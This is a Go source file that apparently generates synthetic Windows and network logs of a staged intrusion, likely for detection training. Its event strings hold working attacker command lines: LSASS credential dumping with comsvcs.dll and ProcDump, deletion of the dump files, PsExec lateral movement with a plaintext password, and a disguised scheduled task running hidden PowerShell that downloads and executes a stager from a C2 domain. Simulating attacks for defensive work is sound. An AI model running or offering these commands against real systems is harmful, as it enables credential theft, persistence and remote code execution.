package demo

import (
	"fmt"
	"strings"
	"time"
)

// credentialDump: with the implant elevated (the victim is a local
// administrator of their desktop), the operator dumps LSASS twice: with
// comsvcs.dll's MiniDump export and with Sysinternals ProcDump.
func (x *intrusion) credentialDump() {
	w := x.w
	t := x.at(x.dayB, 11.03)
	elevated := x.implant
	elevated.il = ilHigh
	procdump := `C:\Users\Public\procdump64.exe`
	x.sd.files = append(x.sd.files, fileEvent{t: t, host: x.host, action: "FileCreated", path: procdump, proc: &x.implant, parent: "WmiPrvSE.exe",
		origin: "http://" + c2Domain + "/t/procdump64.exe", originIP: c2IP.String(), size: 424_856, story: storyLSASS})
	x.sd.flows = append(x.sd.flows, flowEvent{t: t.Add(-1500 * time.Millisecond), src: x.host, srcIP: x.host.IP, srcPort: 52011, dstIP: c2IP, dstPort: 80,
		domain: c2Domain, proc: &x.implant, user: x.implant.id, sent: 388, recv: 427_100, app: "web-browsing", fw: w.firewallOf(x.v.Site),
		natIP: x.v.Site.Egress, dur: 2 * time.Second, story: storyLSASS})
	lsassPid := x.host.sys.lsass
	t1 := t.Add(2 * time.Minute)
	x.dumpAt = t
	mini := x.implantCmdAs(t1, elevated, pRundll32, fmt.Sprintf(`rundll32.exe C:\windows\System32\comsvcs.dll, MiniDump %d C:\Users\Public\lsass.dmp full`, lsassPid), storyLSASS)
	x.minidump = mini
	x.sd.files = append(x.sd.files, fileEvent{t: t1.Add(3 * time.Second), host: x.host, action: "FileCreated", path: `C:\Users\Public\lsass.dmp`, proc: &mini, parent: "cmd.exe", size: 52_844_173, story: storyLSASS})
	t2 := t.Add(6*time.Minute + 20*time.Second)
	pd := x.implantCmdAs(t2, elevated, procdump, procdump+` -accepteula -ma lsass.exe C:\Users\Public\lsass_2.dmp`, storyLSASS)
	x.sd.files = append(x.sd.files, fileEvent{t: t2.Add(4 * time.Second), host: x.host, action: "FileCreated", path: `C:\Users\Public\lsass_2.dmp`, proc: &pd, parent: "cmd.exe", size: 53_001_542, story: storyLSASS})
	// The dump leaves for the C2 server, then the files are deleted.
	t3 := t.Add(9 * time.Minute)
	x.sd.flows = append(x.sd.flows, flowEvent{t: t3, src: x.host, srcIP: x.host.IP, srcPort: 52390, dstIP: c2IP, dstPort: 443, domain: c2Domain,
		proc: &x.implant, user: x.implant.id, sent: 19_822_310, recv: 5_120, app: "ssl", fw: w.firewallOf(x.v.Site), natIP: x.v.Site.Egress,
		dur: 41 * time.Second, story: storyLSASS})
	del := x.implantCmdAs(t.Add(12*time.Minute), elevated, pCmd, `cmd.exe /c del /f /q C:\Users\Public\lsass.dmp C:\Users\Public\lsass_2.dmp`, storyLSASS)
	for i, f := range []string{`C:\Users\Public\lsass.dmp`, `C:\Users\Public\lsass_2.dmp`} {
		x.sd.files = append(x.sd.files, fileEvent{t: t.Add(12*time.Minute + time.Duration(i+1)*50*time.Millisecond), host: x.host, action: "FileDeleted", path: f, proc: &del, parent: "cmd.exe", story: storyLSASS})
	}
}

// implantCmdAs runs cmd.exe /c from the implant with a given token and a
// program under it.
func (x *intrusion) implantCmdAs(t time.Time, as proc, path, cmdline, story string) proc {
	w, r := x.w, x.r
	cmd := proc{img: w.img(pCmd), cmd: `C:\Windows\system32\cmd.exe /c ` + cmdline, pid: pid4(r, 0xb000, 0xd000), start: t, id: as.id, il: as.il}
	x.sd.procs = append(x.sd.procs, procEvent{host: x.host, p: cmd, parent: x.implant, gpName: "WmiPrvSE.exe", end: t.Add(20 * time.Second), story: story})
	child := proc{img: w.img(path), cmd: cmdline, pid: pid4(r, 0xd000, 0xf000), start: t.Add(70 * time.Millisecond), id: as.id, il: as.il}
	x.sd.procs = append(x.sd.procs, procEvent{host: x.host, p: child, parent: cmd, gpName: "rundll32.exe", end: t.Add(15 * time.Second), story: story})
	return child
}

// lateralMovement: with the stolen admin password the operator runs PsExec
// against the file server, looks around and installs a scheduled task that
// fetches the stager every 30 minutes.
func (x *intrusion) lateralMovement() {
	o, r := x.w.org, x.r
	t := x.at(x.dayB, 14.58)
	x.moveAt = t
	admin := x.helpdesk
	fsName := "FS01." + o.ADDomain
	elevated := x.implant
	elevated.il = ilHigh
	psexecPath := `C:\Users\Public\PsExec64.exe`
	x.sd.files = append(x.sd.files, fileEvent{t: t.Add(-90 * time.Second), host: x.host, action: "FileCreated", path: psexecPath, proc: &x.implant, parent: "WmiPrvSE.exe",
		origin: "http://" + c2Domain + "/t/PsExec64.exe", originIP: c2IP.String(), size: 833_472, story: storyLateral})
	password := "Welcome@2024"
	runs := []struct {
		after time.Duration
		cmd   string
	}{
		{0, `cmd.exe /c "whoami /all & hostname & net group \"Domain Admins\" /domain"`},
		{6 * time.Minute, `schtasks.exe /create /tn "\Microsoft\Windows\UpdateOrchestrator\USO_UxBroker_Check" /tr "powershell.exe -nop -w hidden -c \"IEX ((New-Object Net.WebClient).DownloadString('http://` + c2Domain + `/s/b.ps1'))\"" /sc minute /mo 30 /ru SYSTEM /f`},
	}
	adminID := o.adminID(admin, 0)
	for i, run := range runs {
		at := t.Add(run.after)
		cmdline := fmt.Sprintf(`%s \\%s -accepteula -u %s\%s -p %s %s`, psexecPath, fsName, o.NetBIOS, admin.AdminSam, password, run.cmd)
		pe := x.implantCmdAs(at, elevated, psexecPath, cmdline, storyLateral)
		logonID := 0x9c41e00 + uint64(r.IntN(0xfff))
		fsID := adminID.withLogon(logonID)
		// 4648 on the workstation: explicit credentials for the file server.
		x.sd.explicit = append(x.sd.explicit, explicitLogon{t: at.Add(400 * time.Millisecond), host: x.host, subject: x.implant.id, target: fsID, server: fsName, proc: pe})
		x.sd.logons = append(x.sd.logons, logonEvent{t: at.Add(600 * time.Millisecond), host: x.fs, id: fsID, typ: ltNetwork, src: x.host, srcIP: x.host.IP,
			pkg: "NTLM", process: "NtLmSsp ", admin: true, end: at.Add(run.after/3 + 90*time.Second), story: storyLateral})
		x.sd.flows = append(x.sd.flows, flowEvent{t: at.Add(500 * time.Millisecond), src: x.host, srcIP: x.host.IP, srcPort: 53100 + i, dst: x.fs, dstIP: x.fs.IP, dstPort: 445,
			proc: &pe, user: x.implant.id, sent: 412_000, recv: 18_000, app: "ms-ds-smb", dur: 80 * time.Second, story: storyLateral})
		x.psexecService(at.Add(time.Second), fsID, pe, run.cmd, i)
	}
	x.taskRuns(t.Add(6 * time.Minute))
}

// explicitLogon is a 4648: a process used credentials other than its own.
type explicitLogon struct {
	t       time.Time
	host    *Host
	subject *identity
	target  *identity
	server  string
	proc    proc
}

// psexecService is what the file server records of one PsExec run: the
// share access, the service binary written to ADMIN$, the service install,
// the command under it.
func (x *intrusion) psexecService(t time.Time, id *identity, pe proc, command string, run int) {
	w, r, fs := x.w, x.r, x.fs
	src := x.host.IP.String()
	for i, s := range []struct{ share, rel, mask string }{
		{"IPC$", "", ""}, {"ADMIN$", "", ""}, {"ADMIN$", "PSEXESVC.exe", "0x2"}, {"IPC$", "svcctl", "0x3"},
		{"IPC$", fmt.Sprintf("PSEXESVC-%s-%d-stdin", x.host.Name, pe.pid), "0x12019f"},
		{"IPC$", fmt.Sprintf("PSEXESVC-%s-%d-stdout", x.host.Name, pe.pid), "0x12019f"},
		{"IPC$", fmt.Sprintf("PSEXESVC-%s-%d-stderr", x.host.Name, pe.pid), "0x12019f"},
	} {
		x.sd.shares = append(x.sd.shares, shareAccess{t: t.Add(time.Duration(i) * 40 * time.Millisecond), host: fs, id: id, ip: src, share: s.share, rel: s.rel, mask: s.mask})
	}
	if run == 0 {
		x.sd.files = append(x.sd.files,
			fileEvent{t: t.Add(200 * time.Millisecond), host: x.host, action: "FileCreated", path: `\\FS01\ADMIN$\PSEXESVC.exe`, proc: &pe, parent: "cmd.exe", size: 145_568, story: storyLateral},
			fileEvent{t: t.Add(210 * time.Millisecond), host: fs, action: "FileCreated", path: `C:\Windows\PSEXESVC.exe`, size: 145_568, share: "ADMIN$",
				proc: &proc{img: w.img("System"), cmd: "", pid: 4, id: fs.idSystem, il: ilSystem}, reqUser: id, reqIP: src, story: storyLateral})
	}
	installed := t.Add(600 * time.Millisecond)
	x.sd.services = append(x.sd.services, serviceInstall{t: installed, host: fs, id: id, name: "PSEXESVC", path: `%SystemRoot%\PSEXESVC.exe`})
	x.sd.events = append(x.sd.events,
		winEvent{t: installed, host: fs, log: "System", source: "Service Control Manager", id: 7045, level: 4, user: id.domain + `\` + id.name,
			data:    []string{"ServiceName", "PSEXESVC", "ImagePath", `%SystemRoot%\PSEXESVC.exe`, "ServiceType", "user mode service", "StartType", "demand start", "AccountName", "LocalSystem"},
			message: "A service was installed in the system.\n\nService Name:  PSEXESVC\nService File Name:  %SystemRoot%\\PSEXESVC.exe\nService Type:  user mode service\nService Start Type:  demand start\nService Account:  LocalSystem", story: storyLateral},
		winEvent{t: installed.Add(300 * time.Millisecond), host: fs, log: "System", source: "Service Control Manager", id: 7036, level: 4, user: "N/A",
			data: []string{"param1", "PSEXESVC", "param2", "running"}, message: "The PSEXESVC service entered the running state.", story: storyLateral},
		winEvent{t: installed.Add(55 * time.Second), host: fs, log: "System", source: "Service Control Manager", id: 7036, level: 4, user: "N/A",
			data: []string{"param1", "PSEXESVC", "param2", "stopped"}, message: "The PSEXESVC service entered the stopped state.", story: storyLateral})
	services, _, _, _, _ := w.hostProcs(fs)
	svc := proc{img: w.img(`C:\Windows\PSEXESVC.exe`), cmd: `C:\Windows\PSEXESVC.exe`, pid: pid4(r, 0x1800, 0x2800), start: installed.Add(400 * time.Millisecond), id: fs.idSystem, il: ilSystem}
	x.sd.procs = append(x.sd.procs, procEvent{host: fs, p: svc, parent: services, gpName: "wininit.exe", end: installed.Add(54 * time.Second), story: storyLateral})
	exe := strings.Fields(command)[0]
	child := proc{img: w.img(pSystem32 + exe), cmd: command, pid: pid4(r, 0x2800, 0x4000), start: svc.start.Add(500 * time.Millisecond), id: id, il: ilHigh}
	x.sd.procs = append(x.sd.procs, procEvent{host: fs, p: child, parent: svc, gpName: "services.exe", end: child.start.Add(4 * time.Second), story: storyLateral})
	if run == 0 {
		for i, c := range []string{`whoami  /all`, `hostname`, `net  group "Domain Admins" /domain`} {
			g := proc{img: w.img(pSystem32 + strings.Fields(c)[0] + ".exe"), cmd: c, pid: pid4(r, 0x4000, 0x6000), start: child.start.Add(time.Duration(i+1) * 300 * time.Millisecond), id: id, il: ilHigh}
			x.sd.procs = append(x.sd.procs, procEvent{host: fs, p: g, parent: child, gpName: "PSEXESVC.exe", end: g.start.Add(time.Second), story: storyLateral})
		}
		return
	}
	x.sd.tasks = append(x.sd.tasks, taskCreate{t: child.start.Add(700 * time.Millisecond), host: fs, id: id,
		name: `\Microsoft\Windows\UpdateOrchestrator\USO_UxBroker_Check`, command: "powershell.exe",
		args: `-nop -w hidden -c "IEX ((New-Object Net.WebClient).DownloadString('http://` + c2Domain + `/s/b.ps1'))"`})
}

// taskRuns: the task fires every 30 minutes until the end of the data and
// its PowerShell fetches the stager.
func (x *intrusion) taskRuns(created time.Time) {
	w, r, fs := x.w, x.r, x.fs
	_, schedule, _, _, _ := w.hostProcs(fs)
	first := created.Truncate(30 * time.Minute).Add(30 * time.Minute)
	for t := first; t.Before(w.cfg.End); t = t.Add(30 * time.Minute) {
		at := t.Add(r.durIn(200*time.Millisecond, 1500*time.Millisecond))
		ps := proc{img: w.img(pPowerShell), cmd: `powershell.exe -nop -w hidden -c "IEX ((New-Object Net.WebClient).DownloadString('http://` + c2Domain + `/s/b.ps1'))"`,
			pid: pid4(r, 0x2000, 0x8000), start: at, id: fs.idSystem, il: ilSystem}
		x.sd.procs = append(x.sd.procs, procEvent{host: fs, p: ps, parent: schedule, gpName: "services.exe", end: at.Add(r.durIn(3*time.Second, 9*time.Second)), story: storyLateral})
		x.sd.flows = append(x.sd.flows, flowEvent{t: at.Add(900 * time.Millisecond), src: fs, srcIP: fs.IP, srcPort: 50000 + r.IntN(15000), dstIP: c2IP, dstPort: 80,
			domain: c2Domain, proc: &ps, user: fs.idSystem, sent: int64(r.between(300, 520)), recv: int64(r.between(6_000, 9_000)), app: "web-browsing",
			fw: w.org.Firewall[0], natIP: w.org.Sites[0].Egress, lookup: true, dur: 700 * time.Millisecond, story: storyLateral})
	}
}

// shareAccess is a 5140/5145 pair's worth of share audit.
type shareAccess struct {
	t     time.Time
	host  *Host
	id    *identity
	ip    string
	share string
	rel   string
	mask  string
}

// serviceInstall is a 4697.
type serviceInstall struct {
	t          time.Time
	host       *Host
	id         *identity
	name, path string
}

// taskCreate is a 4698.
type taskCreate struct {
	t                   time.Time
	host                *Host
	id                  *identity
	name, command, args string
}
